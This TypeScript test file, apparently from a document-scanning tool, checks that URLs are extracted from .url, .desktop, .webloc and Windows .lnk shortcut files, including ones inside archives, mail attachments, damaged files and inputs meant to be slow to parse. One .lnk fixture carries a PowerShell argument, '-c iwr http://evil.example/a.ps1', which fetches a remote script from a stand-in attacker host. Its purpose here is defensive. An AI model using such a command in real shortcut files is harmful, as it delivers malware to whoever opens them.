import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { runs } from '../../../test/arbitrary/runs.ts'
import type { Part } from '../src/index.ts'
import { zipOf } from './packing.ts'
import { codesOf, message, readBytes } from './reading.ts'

/** Files that lead to a URL: in files, archives and mail, whole and damaged. */

const URL = 'http://a.example/x?a=1&b=2'

function plist(url: string, wide = false): Buffer {
  const text = Buffer.from(url, wide ? 'utf16le' : 'latin1')
  const count = url.length
  const size = count < 15 ? [] : count < 256 ? [0x10, count] : [0x11, count >> 8, count & 255]
  const head = [(wide ? 0x60 : 0x50) + Math.min(count, 15), ...size]
  const trailer = Buffer.alloc(32)
  return Buffer.concat([
    Buffer.from('bplist00\xd1\x01\x02\x53URL', 'latin1'),
    Buffer.from(head),
    wide ? text.swap16() : text,
    trailer,
  ])
}

const webloc = (url: string): string =>
  `<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">\n<plist version="1.0">\n<dict>\n\t<key>URL</key>\n\t<string>${url.replaceAll('&', '&amp;')}</string>\n</dict>\n</plist>\n`

interface Link {
  readonly target?: string
  readonly wide?: boolean
  readonly strings?: Readonly<Record<number, string>>
  readonly info?: Buffer
}

/** A Windows shortcut (MS-SHLLINK). The strings are by their flags. */
function lnk({ target, wide = true, strings = {}, info }: Link): Buffer {
  const encoded = (text: string): Buffer => Buffer.from(text, wide ? 'utf16le' : 'latin1')
  const short = (value: number): Buffer => Buffer.from([value & 255, value >> 8])
  const header = Buffer.alloc(76)
  Buffer.from('4c0000000114020000000000c000000000000046', 'hex').copy(header)
  const flags = Object.keys(strings).reduce((sum, flag) => sum | Number(flag), wide ? 0x80 : 0)
  header.writeUInt32LE(flags | (target === undefined ? 0 : 1) | (info === undefined ? 0 : 2), 20)
  const all: Buffer[] = [header]
  if (target !== undefined) {
    const root = Buffer.concat([short(20), Buffer.from([0x1f, 0x80]), Buffer.alloc(16, 7)])
    const url = Buffer.concat([Buffer.from([0x61, wide ? 0x80 : 0, 0, 0]), encoded(`${target}\0`)])
    const items = Buffer.concat([root, short(url.length + 2), url, short(0)])
    all.push(short(items.length), items)
  }
  if (info !== undefined) all.push(Buffer.from(new Uint32Array([info.length + 4]).buffer), info)
  for (const text of Object.values(strings)) all.push(short(text.length), encoded(text))
  return Buffer.concat([...all, Buffer.alloc(4)])
}

const urls = (parts: readonly Part[]): unknown =>
  parts.flatMap(({ reference, origin }) => (reference === undefined ? [] : [[origin, reference.url]]))
const texts = (parts: readonly Part[]): unknown => parts.map(({ origin, text }) => [origin, text])

const KINDS: readonly [name: string, file: Buffer, origin: string][] = [
  ['a.url', Buffer.from(`[InternetShortcut]\r\nURL=${URL}\r\n`), 'property URL'],
  ['utf16.url', Buffer.from(`\ufeff[InternetShortcut]\r\nURL=${URL}\r\nIconIndex=0\r\n`, 'utf16le'), 'property URL'],
  ['old.url', Buffer.from(`[DEFAULT]\n; x\n[InternetShortcut]\n URL = ${URL} \n`), 'property URL'],
  [
    'windows.url',
    Buffer.from(`[{000214A0-0000-0000-C000-000000000046}]\r\nProp3=19,11\r\n\r\n[InternetShortcut]\r\nURL=${URL}\r\n`),
    'property URL',
  ],
  [
    'doc.url',
    Buffer.from(`; x\n[DOC#4#5]\n  BASEURL=\nA=[b\n[InternetShortcut.A]\n[InternetShortcut]\nURL=${URL}`),
    'property URL',
  ],
  ['a.desktop', Buffer.from(`# x\n[Desktop Entry]\nType=Link\nName=x\nURL[$e]=${URL}`), 'property URL[$e]'],
  ['a.webloc', Buffer.from(webloc(URL)), 'property URL'],
  ['binary.webloc', plist(URL), 'property URL'],
  ['long.webloc', plist(`${URL}${'x'.repeat(300)}`), 'property URL'],
  ['wide.webloc', plist(URL, true), 'property URL'],
  ['a.lnk', lnk({ target: URL }), 'property target'],
  ['ascii.lnk', lnk({ target: URL, wide: false }), 'property target'],
]

describe('a file that leads to a URL is read as it', () => {
  test.each(KINDS)('%s', async (name, file, origin) => {
    const parts = await readBytes(file)
    const url = name === 'long.webloc' ? `${URL}${'x'.repeat(300)}` : URL
    expect(urls(parts)).toEqual([[origin, url]])
    const [part] = parts.filter(({ reference }) => reference !== undefined)
    const { start, end } = part!.rawRange(0, part!.text.length)!
    expect(file.toString('latin1', start, end).replaceAll('\0', '')).toBe(
      name === 'a.webloc' ? URL.replace('&', '&amp;') : url,
    )
    expect([part!.start, part!.end]).toEqual([start, end])
    expect(codesOf(parts)).toEqual([])
  })

  test.each(KINDS)('%s in an archive and attached to mail, whatever its type', async (name, file, origin) => {
    const inZip = await readBytes(zipOf([{ name, data: file }]))
    for (const type of ['text/plain', 'application/octet-stream', 'application/internet-shortcut', 'text/x-url']) {
      const fields = `Content-Type: ${type}; name="${name}"\nContent-Transfer-Encoding: base64\n`
      const parts = (await readBytes(message(file.toString('base64'), fields))).filter(
        ({ origin }) => origin !== 'header Subject',
      )
      expect(urls(parts)).toEqual(urls(inZip))
      expect(parts.at(-1)!.envelope).toMatchObject({ attachment: name, within: { subject: 'test' } })
    }
    expect(JSON.stringify(urls(inZip))).toContain(origin)
  })

  test('with the references of XML in it decoded', async () => {
    const file = webloc('http://a.example/?a=1&#38;b=2&#x26;c=3&lt;').replaceAll('&amp;#', '&#')
    const [part] = await readBytes(file)
    expect(part!.reference?.url).toBe('http://a.example/?a=1&b=2&c=3&lt;')
    const { start, end } = part!.rawRange(21, 22)!
    expect(file.slice(start, end)).toBe('&#38;')
  })

  test('with its other values as texts', async () => {
    const file = `[DEFAULT]\nBASEURL=http://base.example/\n[InternetShortcut]\nURL=http://a.example/\nIconFile=http://icon.example/i.ico\n`
    expect(texts(await readBytes(file))).toEqual([
      ['body', '[DEFAULT]'],
      ['property BASEURL', 'http://base.example/'],
      ['body', '[InternetShortcut]'],
      ['property URL', 'http://a.example/'],
      ['property IconFile', 'http://icon.example/i.ico'],
    ])
    const strings = { 4: 'név', 32: '-c iwr http://evil.example/a.ps1', 64: '\\\\host\\icon' }
    const link = lnk({ target: 'http://a.example/', strings, info: Buffer.alloc(40, 1) })
    expect(texts(await readBytes(link))).toEqual([
      ['property target', 'http://a.example/'],
      ['property name', 'név'],
      ['property arguments', '-c iwr http://evil.example/a.ps1'],
      ['property icon location', '\\\\host\\icon'],
    ])
  })

  test.each([
    ['an ini file', '[Settings]\nURL=http://a.example/'],
    ['a property list', webloc(URL).replace('<key>URL', '<key>Other')],
    ['a section in XML', webloc('x').replace('x</string>', `<![CDATA[${URL}]]></string>`)],
    ['text about one', 'See:\n[InternetShortcut]\nURL=http://a.example/'],
  ])('but not %s', async (_, file) => {
    expect((await readBytes(file)).every(({ contentType }) => contentType === 'text/plain')).toBe(true)
  })
})

describe('damaged and hostile', () => {
  test('one that ends early is told, and the rest of the archive is read', async () => {
    for (const file of [plist(URL).subarray(0, 30), lnk({ strings: { 4: 'x'.repeat(90) } }).subarray(0, 100)]) {
      const parts = await readBytes(
        zipOf([
          { name: 'a', data: file },
          { name: 'b', data: Buffer.from('http://b.example/') },
        ]),
      )
      expect(codesOf(parts)).toEqual(['truncated'])
      expect(parts.at(-1)!.text).toBe('http://b.example/')
    }
  })

  test('random bytes in any of them never throw, and each place is in the file', async () => {
    const files = [
      ...KINDS.map(([, file]) => file),
      lnk({ target: URL, strings: { 4: 'a', 8: 'b', 32: URL }, info: Buffer.alloc(9) }),
    ]
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(...files),
        fc.array(fc.tuple(fc.nat(), fc.nat(255)), { maxLength: 4 }),
        fc.nat(),
        async (file, changes, cut) => {
          const damaged = Buffer.from(file)
          for (const [at, byte] of changes) damaged[at % damaged.length] = byte
          const kept = damaged.subarray(0, 1 + (cut % (2 * damaged.length)))
          for (const part of await readBytes(kept)) {
            const range = part.rawRange(part.offset, part.offset + part.text.length)
            expect(range!.start).toBeGreaterThanOrEqual(0)
            expect(range!.end).toBeLessThanOrEqual(kept.length)
          }
        },
      ),
      runs(300),
    )
  })

  test.each([
    ['lines', `[InternetShortcut]\n${'a=b\n'.repeat(60_000)}`],
    ['signs', `[InternetShortcut]\n${'='.repeat(200_000)}`],
    ['blanks', `[InternetShortcut]\n${' '.repeat(200_000)}x`],
    ['blanks in a line', `[InternetShortcut]\nx${' '.repeat(200_000)}x`],
    ['brackets', `URL${'['.repeat(100_000)}\n[InternetShortcut]\n${'url['.repeat(30_000)}=x`],
    ['a long file', `[InternetShortcut]\nURL=http://a.example/${'x'.repeat(3_000_000)}`],
    ['comments', `${';\n'.repeat(2000)}[InternetShortcut]`],
    ['sections', `${'[a]\nb=c\n \n'.repeat(450)}[InternetShortcut`],
    ['blank lines', `[a]${'\n'.repeat(4090)}`],
  ])('many %s take linear time', async (_, file) => {
    const before = process.cpuUsage()
    await readBytes(file)
    expect(process.cpuUsage(before).user).toBeLessThan(5_000_000)
  })
})

test.each(['foo=1', 'base=1', '; note', '[Other]'])('a Windows shortcut is known behind the line %j', async (line) => {
  const parts = await readBytes(Buffer.from(`${line}\r\n[InternetShortcut]\r\nURL=${URL}\r\n`))
  expect(parts.map(({ contentType }) => contentType)).toContain('application/x-internet-shortcut')
  expect(parts.map(({ reference }) => reference?.url)).toContain(URL)
})
